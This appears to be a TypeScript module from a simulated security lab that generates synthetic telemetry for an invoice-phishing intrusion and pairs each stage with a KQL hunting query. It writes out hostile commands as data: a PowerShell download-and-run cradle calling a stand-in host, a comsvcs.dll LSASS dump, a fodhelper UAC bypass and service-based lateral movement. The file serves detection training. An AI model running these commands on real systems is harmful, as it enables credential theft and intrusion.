import { deliver } from '../activities/organisation.js';
import { resolveName } from '../activities/windows.js';
import { accounts, company, type Employee } from '../company.js';
import type { Host, Process } from '../host.js';
import { publicAddress } from '../internet.js';
import { program, programAt } from '../programs.js';
import { type Clock, minute } from '../time.js';
import { type Attack, encodedCommand, type Finding, raiseAlert, type Stage } from './attack.js';

const control = { name: 'cdn.updates-sync.example', address: '203.0.113.77', port: 443 };
const beacons = 36;
const attachment = 'Invoice_88213.docm';

interface Scene {
  readonly stage: Stage;
  readonly clock: Clock;
  readonly victim: Host;
  readonly user: Employee;
}

/**
 * A mail with a macro document; PowerShell fetches a second stage that beacons, stays through a Run
 * key, dumps LSASS and moves to the file server as a service.
 */
export const invoice: Attack = (stage, start) => {
  const victim = stage.host('bw-ws001');
  const user = victim.device.owner;
  if (!user) throw new Error('the victim has no user');
  const scene = { stage, clock: stage.clock(start), victim, user };
  const mail = sendMails(scene);
  const document = openDocument(scene);
  const implant = leaveImplant(scene, document.shell);
  const discovery = discover(scene, implant.agent);
  const credentials = readCredentials(scene, implant.agent);
  const movement = moveToServer(scene, credentials.elevated);
  const beacon = sendBeacons(scene, implant.agent);
  return [mail, document, implant, discovery, credentials, movement, beacon].flatMap(
    ({ findings }) => findings,
  );
};

interface Step {
  readonly findings: readonly Finding[];
}

/** Whom the mail is for, and two more of the finance department. */
function sendMails({ stage, clock, user }: Scene): Step {
  const recipients = stage.organisation.employees.filter(
    ({ department }) => department === 'Finance',
  );
  const mailed = [user, ...recipients.filter(({ upn }) => upn !== user.upn).slice(0, 2)];
  for (const recipient of mailed) {
    deliver(
      stage.organisation,
      {
        sender: { address: 'billing@harbour-invoices.example', name: 'Harbour Billing' },
        senderAddress: publicAddress('harbour-invoices.example'),
        recipient,
        subject: 'Overdue invoice 88213',
        direction: 'Inbound',
        attachments: [{ name: attachment, type: 'docm', content: 'attack invoice document' }],
      },
      stage.clock(clock.later(1, 4)),
    );
  }
  return {
    findings: [
      {
        title: 'The mail and its attachment',
        technique: 'T1566.001',
        kql: `EmailAttachmentInfo
| where FileType == "docm"
| join kind=inner (EmailEvents | where EmailDirection == "Inbound") on NetworkMessageId
| project RecipientEmailAddress, FileName, SenderFromDomain, DeliveryAction`,
        rows: mailed.map(({ upn }) => ({
          RecipientEmailAddress: upn,
          FileName: attachment,
          SenderFromDomain: 'harbour-invoices.example',
          DeliveryAction: 'Delivered',
        })),
      },
    ],
  };
}

/** The document's macro starts PowerShell. */
function openDocument({ victim, clock, user }: Scene): Step & { readonly shell: Process } {
  const outlook = victim.resident(
    'outlook',
    '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"',
    clock.later(600, 900),
  );
  const document = `${victim.home}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7QK2ZP1M\\${attachment}`;
  victim.file(outlook, 'FileCreated', document, clock.soon(), {
    content: 'attack invoice document',
  });
  const word = victim.start(
    outlook,
    program('word'),
    `"${program('word').path}" /n "${document}" /o ""`,
    clock.later(2, 5),
  );
  const encoded = encodedCommand(
    `IEX (New-Object Net.WebClient).DownloadString('https://${control.name}/a')`,
  );
  const shell = victim.start(
    word,
    program('powershell'),
    `powershell.exe -NoP -NonI -W Hidden -Enc ${encoded}`,
    clock.later(4, 8),
  );
  victim.start(
    shell,
    program('conhost'),
    '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
    clock.soon(),
  );
  resolveName(victim, control.name, control.address, clock);
  victim.connect(shell, control, clock.soon());
  victim.event(shell, 'AmsiScriptContent', clock.soon(), {
    Content: `IEX (New-Object Net.WebClient).DownloadString('https://${control.name}/a')`,
  });
  return {
    shell,
    findings: [
      {
        title: 'Word starts PowerShell',
        technique: 'T1059.001',
        kql: `DeviceProcessEvents
| where InitiatingProcessFileName in~ ("winword.exe", "excel.exe", "powerpnt.exe")
| where FileName =~ "powershell.exe" and ProcessCommandLine has "-enc"
| project DeviceName, AccountName, InitiatingProcessParentFileName, ProcessCommandLine`,
        rows: [
          {
            DeviceName: victim.device.name,
            AccountName: user.name,
            InitiatingProcessParentFileName: 'OUTLOOK.EXE',
            ProcessCommandLine: shell.commandLine,
          },
        ],
      },
    ],
  };
}

/** A second stage is fetched, and starts with every logon. */
function leaveImplant(
  { stage, clock, victim, user }: Scene,
  shell: Process,
): Step & { readonly agent: Process } {
  const home = `${victim.home}\\AppData\\Roaming\\Microsoft\\Teams`;
  const implant = programAt(home, 'teamsupd.exe', { content: 'attack invoice implant' });
  victim.file(shell, 'FileCreated', implant.path, clock.later(3, 9), {
    content: 'attack invoice implant',
    originUrl: `https://${control.name}/b`,
  });
  victim.registry(shell, clock.soon(), {
    key: `HKEY_CURRENT_USER\\${user.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run`,
    name: 'TeamsUpdate',
    data: `"${implant.path}" -q`,
  });
  const agent = victim.start(shell, implant, `"${implant.path}" -q`, clock.later(1, 3));
  raiseAlert(
    stage,
    {
      title: 'Suspicious PowerShell command line',
      category: 'Execution',
      severity: 'Medium',
      techniques: ['PowerShell (T1059.001)'],
      host: victim,
      fileName: 'powershell.exe',
      commandLine: shell.commandLine,
    },
    clock.now + 4 * minute,
  );
  return {
    agent,
    findings: [
      {
        title: 'A Run key that starts a program from a profile',
        technique: 'T1547.001',
        kql: `DeviceRegistryEvents
| where ActionType == "RegistryValueSet" and RegistryKey endswith @"\\CurrentVersion\\Run"
| project DeviceName, RegistryValueName, RegistryValueData, InitiatingProcessFileName`,
        rows: [
          {
            DeviceName: victim.device.name,
            RegistryValueName: 'TeamsUpdate',
            RegistryValueData: `"${implant.path}" -q`,
            InitiatingProcessFileName: 'powershell.exe',
          },
        ],
      },
    ],
  };
}

/** What the account may do, and where the domain is. */
function discover({ victim, clock }: Scene, agent: Process): Step {
  const console = victim.start(
    agent,
    program('cmd'),
    'cmd.exe /Q /c whoami /all & net group "Domain Admins" /domain & nltest /dclist:',
    clock.later(200, 400),
  );
  const discovery = [
    victim.start(console, program('whoami'), 'whoami  /all', clock.soon()),
    victim.start(console, program('net'), 'net  group "Domain Admins" /domain', clock.later(1, 3)),
    victim.start(
      console,
      program('nltest'),
      `nltest  /dclist:${company.netbios}`,
      clock.later(1, 3),
    ),
  ];
  return {
    findings: [
      {
        title: 'Discovery from one console',
        technique: 'T1087.002',
        kql: `DeviceProcessEvents
| where InitiatingProcessCommandLine has_all ("whoami", "Domain Admins", "nltest")
| project DeviceName, FileName, ProcessCommandLine`,
        rows: discovery.map((process) => ({
          DeviceName: victim.device.name,
          FileName: process.program.fileName,
          ProcessCommandLine: process.commandLine,
        })),
      },
    ],
  };
}

/** Past UAC, and the memory of LSASS on disk. */
function readCredentials(
  { stage, clock, victim, user }: Scene,
  agent: Process,
): Step & { readonly elevated: Process } {
  victim.registry(agent, clock.later(300, 500), {
    key: `HKEY_CURRENT_USER\\${user.sid}\\Software\\Classes\\ms-settings\\Shell\\Open\\command`,
    name: 'DelegateExecute',
    data: '',
  });
  const bypass = victim.start(
    agent,
    program('fodhelper'),
    '"C:\\Windows\\system32\\fodhelper.exe"',
    clock.soon(),
    { integrity: 'High' },
  );
  const elevated = victim.start(
    bypass,
    program('powershell'),
    '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoP -W Hidden',
    clock.later(1, 2),
    { integrity: 'High' },
  );
  const dump = 'C:\\Users\\Public\\libcache.dat';
  const dumper = victim.start(
    elevated,
    program('rundll32'),
    `"C:\\Windows\\system32\\rundll32.exe" C:\\Windows\\System32\\comsvcs.dll, MiniDump ${victim.lsass.id} ${dump} full`,
    clock.later(20, 40),
    { integrity: 'High' },
  );
  victim.event(
    dumper,
    'OpenProcessApiCall',
    clock.soon(),
    { DesiredAccess: 2_097_151 },
    { ProcessId: victim.lsass.id },
    [program('lsass').subject],
  );
  victim.file(dumper, 'FileCreated', dump, clock.later(1, 3), { size: 52_428_800 });
  raiseAlert(
    stage,
    {
      title: 'Sensitive credential memory read',
      category: 'CredentialAccess',
      severity: 'High',
      techniques: ['LSASS Memory (T1003.001)'],
      host: victim,
      fileName: 'rundll32.exe',
      commandLine: dumper.commandLine,
    },
    clock.now + 3 * minute,
  );
  return {
    elevated,
    findings: [
      {
        title: 'LSASS is opened',
        technique: 'T1003.001',
        kql: `DeviceEvents
| where ActionType == "OpenProcessApiCall" and FileName =~ "lsass.exe"
| project DeviceName, InitiatingProcessFileName, InitiatingProcessCommandLine`,
        rows: [
          {
            DeviceName: victim.device.name,
            InitiatingProcessFileName: 'rundll32.exe',
            InitiatingProcessCommandLine: dumper.commandLine,
          },
        ],
      },
    ],
  };
}

/** With the administrator's password, which was in memory: a service on the file server. */
function moveToServer({ stage, clock, victim }: Scene, elevated: Process): Step {
  const target = stage.host('bw-fs01');
  clock.later(2400, 3600);
  victim.connect(
    elevated,
    { name: target.device.name, address: target.device.ip, port: 445 },
    clock.now,
  );
  target.logon(clock.soon(), {
    type: 'Network',
    account: accounts.domainAdmin,
    protocol: 'NTLM',
    from: { name: 'bw-ws001', address: victim.device.ip },
    isLocalAdmin: true,
  });
  target.accept(target.system, victim.device.ip, 445, clock.soon());
  const dropped = 'C:\\Windows\\hqzkwm.exe';
  target.file(target.system, 'FileCreated', dropped, clock.soon(), {
    content: 'attack invoice service',
    share: { name: 'ADMIN$', account: accounts.domainAdmin, address: victim.device.ip },
  });
  target.event(
    target.services,
    'ServiceInstalled',
    clock.soon(),
    { ServiceName: 'hqzkwm', ServiceAccount: 'LocalSystem', ServiceStartType: 3, ServiceType: 16 },
    { FileName: 'hqzkwm.exe', FolderPath: dropped, ProcessCommandLine: '%systemroot%\\hqzkwm.exe' },
  );
  const service = target.start(
    target.services,
    programAt('C:\\Windows', 'hqzkwm.exe', { content: 'attack invoice service' }),
    'C:\\Windows\\hqzkwm.exe',
    clock.later(0.5, 2),
  );
  const remote = target.start(
    service,
    program('powershell'),
    `powershell.exe -NoP -W Hidden -Enc ${encodedCommand('whoami; ipconfig; dir D:\\Shares')}`,
    clock.later(1, 3),
  );
  target.start(remote, program('whoami'), '"C:\\Windows\\system32\\whoami.exe"', clock.soon());
  target.start(remote, program('ipconfig'), '"C:\\Windows\\system32\\ipconfig.exe"', clock.soon());
  raiseAlert(
    stage,
    {
      title: 'Suspicious service registration',
      category: 'LateralMovement',
      severity: 'High',
      techniques: ['Windows Service (T1543.003)', 'SMB/Windows Admin Shares (T1021.002)'],
      host: target,
      fileName: 'hqzkwm.exe',
      commandLine: service.commandLine,
    },
    clock.now + 2 * minute,
  );
  return {
    findings: [
      {
        title: 'A service is installed on the file server',
        technique: 'T1543.003',
        kql: `DeviceEvents
| where ActionType == "ServiceInstalled"
| extend Service = tostring(parse_json(AdditionalFields).ServiceName)
| project DeviceName, Service, FolderPath`,
        rows: [{ DeviceName: target.device.name, Service: 'hqzkwm', FolderPath: dropped }],
      },
      {
        title: 'An administrator logs on from a workstation of the finance department with NTLM',
        technique: 'T1021.002',
        kql: `DeviceLogonEvents
| where Protocol == "NTLM" and LogonType == "Network" and IsLocalAdmin == true
| project DeviceName, AccountName, RemoteDeviceName, RemoteIP`,
        rows: [
          {
            DeviceName: target.device.name,
            AccountName: accounts.domainAdmin.name,
            RemoteDeviceName: 'bw-ws001',
            RemoteIP: victim.device.ip,
          },
        ],
      },
    ],
  };
}

/** All the while. */
function sendBeacons({ stage, victim }: Scene, agent: Process): Step {
  const beaconClock = stage.clock(agent.startedAt);
  for (let count = 0; count < beacons; count++) {
    victim.connect(agent, control, beaconClock.later(270, 330));
  }
  return {
    findings: [
      {
        title: 'The beacon',
        technique: 'T1071.001',
        kql: `DeviceNetworkEvents
| where ActionType == "ConnectionSuccess" and RemoteIPType == "Public"
| where InitiatingProcessFolderPath has_all ("appdata", "roaming")
| summarize Connections = count() by DeviceName, RemoteUrl, RemoteIP, RemotePort`,
        rows: [
          {
            DeviceName: victim.device.name,
            RemoteUrl: control.name,
            RemoteIP: control.address,
            RemotePort: control.port,
            Connections: beacons,
          },
        ],
      },
    ],
  };
}
